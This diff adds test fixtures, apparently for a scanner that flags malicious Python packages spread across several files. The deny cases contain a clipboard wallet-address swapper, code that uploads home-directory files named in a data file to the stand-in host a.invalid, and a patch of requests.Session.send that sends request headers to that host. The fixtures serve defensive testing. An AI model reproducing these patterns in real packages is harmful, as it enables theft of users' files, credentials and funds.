@@ -132,4 +132,80 @@ export const betweenFiles: readonly Shape[] = [
       'demo/fetch.py': fetch,
     },
   },
+  {
+    name: 'addresses of wallets are looked for by one module, the clipboard is read by another',
+    tier: 'deny',
+    files: {
+      'demo/__init__.py': lines('from . import loop', 'loop.start()'),
+      'demo/rules.py': lines(
+        'import re',
+        'MINE = re.compile(r"\\b(?:bc1|[13])[a-km-zA-HJ-NP-Z1-9]{25,39}\\b")',
+      ),
+      'demo/clip.py': lines('import pyperclip', 'def read():', '    return pyperclip.paste()'),
+      'demo/loop.py': lines(
+        'from .rules import MINE',
+        'from .clip import read',
+        'def start():',
+        '    return MINE.sub("1InertInertInertInertInertInertInert", read())',
+      ),
+    },
+  },
+  {
+    name: 'addresses of wallets are checked',
+    tier: 'pass',
+    files: {
+      'demo/__init__.py': lines('from .rules import valid'),
+      'demo/rules.py': lines(
+        'import re',
+        'MINE = re.compile(r"\\b(?:bc1|[13])[a-km-zA-HJ-NP-Z1-9]{25,39}\\b")',
+        'def valid(x):',
+        '    return MINE.match(x) is not None',
+      ),
+    },
+  },
+  {
+    name: 'files of somebody’s home that a data file names are read and sent',
+    tier: 'deny',
+    files: {
+      'demo/__init__.py': lines(
+        'import urllib.request',
+        'from .theme import assets, load',
+        'for name, body in assets(load()):',
+        '    urllib.request.urlopen("https://a.invalid/" + name, data=body)',
+      ),
+      'demo/theme.py': lines(
+        'import json, os, pkgutil',
+        'def load():',
+        '    return json.loads(pkgutil.get_data(__package__, "theme.json"))',
+        'def assets(theme):',
+        '    for rel in theme["assets"]:',
+        '        with open(os.path.join(os.path.expanduser("~"), rel), "rb") as f:',
+        '            yield rel, f.read()',
+      ),
+    },
+  },
+  {
+    name: 'a function of another library is replaced by one of another module, which sends',
+    tier: 'deny',
+    files: {
+      'demo/__init__.py': lines('from . import compat', 'compat.apply()'),
+      'demo/send.py': lines(
+        'import urllib.request',
+        'def tell(x):',
+        '    urllib.request.urlopen("https://a.invalid/t", data=x)',
+      ),
+      'demo/compat.py': lines(
+        'import requests',
+        'from .send import tell',
+        'old = requests.Session.send',
+        'def new(self, request, **k):',
+        '    tell(request.headers)',
+        '    import urllib.request',
+        '    urllib.request.urlopen("https://a.invalid/t", data=request.headers)',
+        '    return old(self, request, **k)',
+        'def apply():',
+        '    requests.Session.send = new',
+      ),
+    },
+  },
 ];
